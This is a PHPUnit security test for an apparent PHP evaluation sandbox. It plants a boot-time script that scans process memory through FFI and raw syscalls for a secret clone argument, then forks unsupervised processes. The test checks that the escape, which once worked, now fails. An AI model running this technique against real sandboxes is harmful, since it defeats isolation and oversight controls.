<?php

declare(strict_types=1);

namespace Altair\Eval\Tests\Escape;

use Altair\Eval\Tests\Support\Escape\Prelude;
use Altair\Eval\Tests\Support\Escape\Setting;
use Altair\Eval\Tests\Support\Escape\Syscalls;
use Altair\Eval\Tests\Support\Escape\WarmHost;
use PHPUnit\Framework\TestCase;

/**
 * Boot makes no process and installs no filter, whatever it finds in its memory: neither a word of its stack nor one of
 * its heap or of the extension's variables is worth anything as the argument with which a template makes its forks, or
 * with which the recorder of boot installs its filter. A filter of boot's own could pretend to a fork that its guards
 * are in force.
 *
 * It was: while boot ran, the pass was in a stack frame of the template's, found within fifty words; in what had held
 * the filter's rules, within a hundred; and in two halves in what had held its program, at once. The twenty processes
 * that were made with it were children of the keeper, of which nobody knew, and which no deadline ended.
 */
final class PassInBootTest extends TestCase
{
    /** Processes that the attack goes for. */
    private const WANTED = 20;

    /** Seconds after which the attack gives up, and after which what it has made ends by itself. */
    private const SECONDS = 2;
    private const LIFE_SECONDS = 10;

    /** Milliseconds for boot and run: far more than the attack takes. */
    private const TIMEOUT_MS = 15000;

    /** `long f(void)` that returns the stack pointer. */
    private const STACK_POINTER = [
        // mov rax, rsp; ret
        'x86_64' => "\x48\x89\xe0\xc3",
        // mov x0, sp; ret
        'aarch64' => "\xe0\x03\x00\x91\xc0\x03\x5f\xd6",
    ];

    /** Where it is looked for, and as what: upwards and downwards, from the stack pointer and from the heap's end. */
    private const FORMS = [
        'words of its stack' => ['words', '[[$sp, 1, 4096], [$sp, -1, 256]]'],
        'words of its heap' => ['words', '[[$end, -1, 16384]]'],
        'words of the extension' => ['words', '$data'],
        'halves' => ['halves', '[[$sp, 1, 4096], [$sp, -1, 256], [$end, -1, 16384]]'],
    ];

    /** The calls that it makes. */
    private const CALLS = ['clone', 'faccessat2', 'seccomp'];

    /** The code with which the calls of boot are made that are recorded (`altair_record_call`). */
    private const STUB = '4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3';

    /**
     * Tries each word of its memory that may be a random number as the pass of clone, as templates make it
     * (CLONE_PARENT, CLONE_PIDFD, CLONE_CHILD_SETTID, CLONE_CHILD_CLEARTID), and once it has found it makes more.
     *
     * Which pages there are the kernel says: a name that cannot be read is EFAULT. The calls are made from where they
     * are not looked at on the way, in the extension itself, and elsewhere as all are.
     */
    private const ATTACK = <<<'PHP'
        $until = hrtime(true) + SECONDS * 1e9;
        $stub = null;
        $data = [];
        $c = FFI::cdef('struct header { unsigned type, flags; long offset, address, physical, bytes, memory, align; };'
            . ' struct object { long base; const char *name; struct header *headers; unsigned short count; };'
            . ' int dl_iterate_phdr(int (*)(struct object *, size_t, void *), void *);');
        $c->dl_iterate_phdr(static function (FFI\CData $object) use (&$stub, &$data): int {
            $isOurs = false;
            for ($i = 0; $i < $object->count; $i++) {
                $part = $object->headers[$i];
                if ($part->type === 1 && ($part->flags & 1) === 1 && $stub === null) {
                    $start = FFI::new('size_t');
                    $start->cdata = $object->base + $part->address;
                    $code = FFI::cast('char **', FFI::addr($start))[0];
                    $found = strpos(FFI::string($code, $part->bytes), STUB);
                    $stub = $found === false ? null : $start->cdata + $found;
                    $isOurs = $stub !== null;
                }
                // What it may write to comes after its code.
                if ($part->type === 1 && ($part->flags & 2) === 2 && $isOurs) {
                    $data[] = [$object->base + $part->address, 1, 1 + intdiv($part->memory, 4096)];
                }
            }
            return 0;
        }, null);
        $call = raw(...);
        if ($stub !== null) {
            $start = FFI::new('size_t');
            $start->cdata = $stub;
            $direct = FFI::cast('long (**)(long, long, long, long, long, long, long)', FFI::addr($start))[0];
            $numbers = NUMBERS;
            $call = static fn (string $name, int ...$words): int
                => $direct($numbers[$name], ...array_pad($words, 6, 0));
        }
        $sp = machine(STACK_POINTER);
        $end = raw('brk', 0);
        $pidfd = buf(8);
        $id = buf(8);
        $at = FFI::new('size_t');
        $seen = [];
        $made = 0;
        $tried = 0;
        $read = 0;
        $filters = 0;
        $clone = static function (int $pass) use ($call, $pidfd, $id): int {
            $pid = $call('clone', 0x1209000, 0, addr($pidfd), addr($id), addr($id), $pass);
            if ($pid === 0) {
                // Nothing of PHP's: it has only this one thread, and the descriptors of its model.
                for ($i = 0; $i < LIFE_SECONDS * 10; $i++) {
                    usleep(100000);
                }
                raw('exit_group', 0);
            }
            if ($pid > 0) {
                // What a template leaves open is looked at.
                raw('close', unpack('V', FFI::string($pidfd, 4))[1]);
            }
            return $pid;
        };
        $pages = static function (int $from, int $step, int $count) use ($call, $at, $until, &$read): Generator {
            for ($i = 0, $gaps = 0; $i < $count && $gaps < 256 && hrtime(true) < $until; $i++) {
                $page = ($from & ~4095) + $step * $i * 4096;
                if ($call('faccessat2', -100, $page, 0, 0) === -14) {
                    $gaps++;
                    continue;
                }
                $gaps = 0;
                $read++;
                $at->cdata = $page;
                foreach (unpack('q512', FFI::string(FFI::cast('char **', FFI::addr($at))[0], 4096)) as $j => $word) {
                    yield 512 * $step * $i + $j => $word;
                }
            }
        };
        $words = static fn (iterable $words): iterable => $words;
        // A filter compares halves: `{ BPF_JMP | BPF_JEQ | BPF_K, jt, jf, half }`, one not far from the other.
        $halves = static function (iterable $words): Generator {
            $last = [];
            foreach ($words as $at => $word) {
                if (($word & 0xffff) !== 0x15) {
                    continue;
                }
                $half = ($word >> 32) & 0xffffffff;
                foreach ($last as [$before, $other]) {
                    if ($at - $before < 4) {
                        yield $half << 32 | $other;
                        yield $other << 32 | $half;
                    }
                }
                $last = [...array_slice($last, -1), [$at, $half]];
            }
        };
        $found = 0;
        foreach (RANGES as $range) {
            foreach ($FORM($pages(...$range)) as $word) {
                $top = ($word >> 47) & 0x1ffff;
                if ($top === 0 || $top === 0x1ffff || isset($seen[$word])) {
                    continue;
                }
                $seen[$word] = true;
                $tried++;
                // With the right word, what is refused is the address of the program: EFAULT.
                $filters += $call('seccomp', 1, 0, 8, 0, 0, $word) === -14 ? 1 : 0;
                if ($clone($word) > 0) {
                    $found = $word;
                    break 2;
                }
            }
        }
        if ($found !== 0) {
            for ($made = 1; $made < WANTED && $clone($found) > 0; $made++) {
            }
        }
        fwrite(STDOUT, "BOOT " . json_encode([$made, $tried, $read, $filters]) . "\n");

        PHP;

    /**
     * @dataProvider settings
     */
    public function testNothingInItsMemoryMakesAProcess(string $form, Setting $setting): void
    {
        $host = new WarmHost($setting, ['config/container.php' => $this->boot($form)]);
        $began = hrtime(true);
        try {
            $printed = '';
            $listen = static function (string $text) use (&$printed): void {
                $printed .= $text;
            };
            $result = $host->evaluate('return 1;', ['timeoutMs' => self::TIMEOUT_MS], whenPrinted: $listen);
            $seconds = (hrtime(true) - $began) / 1e9;
            $processes = $host->processes();
        } finally {
            $this->end($host);
        }

        preg_match_all('/^BOOT (.*)$/m', $printed, $boots);
        self::assertNotSame([], $boots[1], json_encode($result));
        // A template with its keeper, and nothing that boot has made.
        self::assertLessThanOrEqual(2, count($processes), json_encode([$boots[1], $processes, $result]));
        foreach ($boots[1] as $boot) {
            [$made, $tried, $read, $filters] = json_decode($boot, true);
            self::assertSame([0, 0], [$made, $filters]);
            self::assertGreaterThan(0, $read, 'It has looked at its memory.');
            // Where no two halves are near each other there is nothing to try.
            $form === 'halves' || self::assertGreaterThan(0, $tried, 'It has tried what it found.');
        }
        self::assertSame(1, $result['result']['value']);
        self::assertLessThan(3 * self::SECONDS + 3, $seconds);
    }

    public static function settings(): iterable
    {
        foreach (Setting::NATIVE as $setting) {
            if ($setting->isPossible()) {
                foreach (array_keys(self::FORMS) as $form) {
                    yield "$form: $setting->value" => [$form, $setting];
                }
            }
        }
    }

    private function boot(string $form): string
    {
        $attack = strtr(self::ATTACK, [
            'FORM' => self::FORMS[$form][0],
            'RANGES' => self::FORMS[$form][1],
            'LIFE_SECONDS' => self::LIFE_SECONDS,
            'SECONDS' => self::SECONDS,
            'WANTED' => self::WANTED,
            'NUMBERS' => var_export(array_intersect_key(Syscalls::numbers(), array_flip(self::CALLS)), true),
            'STUB' => 'hex2bin("' . self::STUB . '")',
            'STACK_POINTER' => 'hex2bin("' . bin2hex(self::STACK_POINTER[php_uname('m')]) . '")',
        ]);

        // Snippets have functions of these names, too.
        return "<?php\nnamespace Planted;\nuse FFI;\nuse Generator;\nuse LogicException;\n" . Prelude::functions()
            . $attack . 'return new class { public function get(string $id): mixed { return 1; }'
            . ' public function has(string $id): bool { return true; } };';
    }

    /** What the attack has made is not to outlive the test. */
    private function end(WarmHost $host): void
    {
        foreach ($host->processes() as $pid => $name) {
            if ($name !== 'altair-keeper') {
                posix_kill($pid, SIGKILL);
            }
        }
    }
}
